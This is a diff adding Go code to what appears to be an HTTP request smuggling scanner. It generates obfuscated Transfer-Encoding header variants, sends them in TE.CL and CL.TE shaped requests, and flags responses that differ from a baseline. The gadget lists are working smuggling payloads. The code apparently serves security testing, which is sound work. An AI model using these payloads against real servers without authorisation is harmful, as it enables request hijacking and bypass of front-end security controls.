@@ -0,0 +1,175 @@
+package main
+
+import (
+        "fmt"
+        "strings"
+)
+
+// ------------------------------
+// Transfer-Encoding gadget fuzzing
+
+// fuzzPrimitive is one labelled building block of a generated gadget.
+type fuzzPrimitive struct {
+        Label string
+        Text  string
+}
+
+var (
+        fuzzNames = []fuzzPrimitive{
+                {"canon", "Transfer-Encoding"},
+                {"lower", "transfer-encoding"},
+                {"upper", "TRANSFER-ENCODING"},
+                {"under", "Transfer_Encoding"},
+                {"space", "Transfer Encoding"},
+                {"dash2", "Transfer--Encoding"},
+                {"lead", " Transfer-Encoding"},
+                {"tab", "\tTransfer-Encoding"},
+                {"trail", "Transfer-Encoding "},
+                {"nul", "Transfer-Encoding\x00"},
+        }
+        fuzzSeparators = []fuzzPrimitive{
+                {"col", ":"},
+                {"colsp", ": "},
+                {"coltab", ":\t"},
+                {"colvt", ":\x0b"},
+                {"colff", ":\x0c"},
+                {"colnbsp", ":\xa0"},
+                {"spcol", " : "},
+                {"colcr", ":\r"},
+        }
+        fuzzValues = []fuzzPrimitive{
+                {"chunked", "chunked"},
+                {"upper", "CHUNKED"},
+                {"quoted", "\"chunked\""},
+                {"apos", "'chunked'"},
+                {"trailsp", "chunked "},
+                {"trailtab", "chunked\t"},
+                {"trailcr", "chunked\r"},
+                {"idlist", "identity, chunked"},
+                {"listid", "chunked, identity"},
+                {"utf8", "chunk\xd0\xb5d"},
+                {"pct", "%63hunked"},
+                {"nul", "chunked\x00"},
+        }
+        // fuzzShapes place the header: alone, beside a decoy, folded, or behind
+        // a header ending in a bare LF. %[1]s is the name and separator, %[2]s
+        // the value.
+        fuzzShapes = []fuzzPrimitive{
+                {"single", "%[1]s%[2]s"},
+                {"dupfirst", "Transfer-Encoding: identity\r\n%[1]s%[2]s"},
+                {"duplast", "%[1]s%[2]s\r\nTransfer-Encoding: identity"},
+                {"fold", "%[1]s\r\n %[2]s"},
+                {"foldlf", "%[1]s\n %[2]s"},
+                {"xprefix", "X: x\n%[1]s%[2]s"},
+        }
+)
+
+// fuzzCandidates composes gadgets from the primitives. With count > 0 a
+// sample of that size is drawn from rng, so --seed reproduces it; otherwise
+// every combination is returned.
+func fuzzCandidates(count int) []mutationSpec {
+        var all []mutationSpec
+        for _, name := range fuzzNames {
+                for _, sep := range fuzzSeparators {
+                        for _, value := range fuzzValues {
+                                for _, shape := range fuzzShapes {
+                                        all = append(all, mutationSpec{
+                                                Name:   strings.Join([]string{"fuzz", name.Label, sep.Label, value.Label, shape.Label}, "-"),
+                                                Gadget: fmt.Sprintf(shape.Text, name.Text+sep.Text, value.Text),
+                                        })
+                                }
+                        }
+                }
+        }
+        if count <= 0 || count >= len(all) {
+                return all
+        }
+        picked := make([]mutationSpec, count)
+        for i, idx := range rng.Perm(len(all))[:count] {
+                picked[i] = all[idx]
+        }
+        return picked
+}
+
+// fuzzProbe is the outcome of one probe request: a read outcome from
+// classifyRead and, for answered requests, the status and body length.
+type fuzzProbe struct {
+        Code   int
+        Status int
+        Length int
+}
+
+func (f fuzzProbe) String() string {
+        switch f.Code {
+        case readTimeout:
+                return "TIMEOUT"
+        case readDisconnected:
+                return "DISCONNECTED"
+        case readError:
+                return "ERR"
+        }
+        return fmt.Sprintf("%d/%d", f.Status, f.Length)
+}
+
+// probe sends p alone on a new connection and reads its response.
+func (d *Desyncr) probe(p *Payload) fuzzProbe {
+        ex := d.sendSequence([]*Payload{p}, false)[0]
+        if ex.Status == 0 {
+                code := classifyRead(ex.Err, ex.Elapsed, d.timeout)
+                if code == readOK {
+                        code = readError
+                }
+                return fuzzProbe{Code: code}
+        }
+        length := len(ex.Response)
+        if idx := strings.Index(ex.Response, "\r\n\r\n"); idx >= 0 {
+                length -= idx + 4
+        }
+        return fuzzProbe{Code: readOK, Status: ex.Status, Length: length}
+}
+
+// fuzzProbes sends the TECL and CLTE shaped requests for p.
+func (d *Desyncr) fuzzProbes(p *Payload) [2]fuzzProbe {
+        return [2]fuzzProbe{d.probe(d.teclPayload(p, 0)), d.probe(d.cltePayload(p, 0))}
+}
+
+// evaluateGadgets compares each candidate's responses with a baseline's. The
+// baseline is the same TECL and CLTE shaped requests without a gadget, sent
+// twice; body lengths are only compared when the two baselines agree on
+// them. A candidate whose status, length or read outcome differs from the
+// baseline in either shape is kept.
+func (d *Desyncr) evaluateGadgets(specs []mutationSpec) []mutationSpec {
+        base := renderTemplate("")
+        base.Host = d.hostHeader()
+        baseline := d.fuzzProbes(base)
+        again := d.fuzzProbes(base)
+        compareLength := baseline == again
+        printInfo(fmt.Sprintf("Baseline   : %sTECL %s | CLTE %s%s", ColorCyan, baseline[0], baseline[1], ColorMagenta), d.logh)
+
+        var kept []mutationSpec
+        for _, spec := range specs {
+                d.prettyPrint(spec.Name, "Checking...")
+                p := renderTemplate(spec.Gadget)
+                p.Host = d.hostHeader()
+                got := d.fuzzProbes(p)
+                differs := false
+                for i := range got {
+                        if got[i].Code != baseline[i].Code || got[i].Status != baseline[i].Status || (compareLength && got[i].Length != baseline[i].Length) {
+                                differs = true
+                        }
+                }
+                msg := fmt.Sprintf("TECL: %s | CLTE: %s", got[0], got[1])
+                if differs {
+                        msg += " - DIFFERENTIAL"
+                }
+                d.prettyPrint(spec.Name, msg)
+                fmt.Println()
+                if differs {
+                        kept = append(kept, spec)
+                        if d.exitEarly {
+                                break
+                        }
+                }
+        }
+        return kept
+}